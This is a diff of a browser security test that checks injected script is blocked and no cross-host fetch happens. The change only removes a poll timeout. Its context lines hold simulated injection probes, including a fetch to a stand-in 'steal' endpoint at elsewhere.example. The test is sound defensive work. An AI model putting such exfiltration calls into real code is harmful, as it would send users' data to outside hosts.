@@ -34,7 +34,7 @@ test('an injected script does not run, and nothing is fetched from other hosts',
     setTimeout(() => new Function("(window.ran ??= []).push('function')")())
     void fetch('https://elsewhere.example/steal').catch(() => {})
   })
-  await expect.poll(() => refused.length, { timeout: 30_000 }).toBeGreaterThanOrEqual(9)
+  await expect.poll(() => refused.length).toBeGreaterThanOrEqual(9)
   expect(await page.evaluate(() => [window.ran ?? [], document.baseURI.startsWith(location.origin)])).toEqual([[], true])
   await app.close(page)
 })
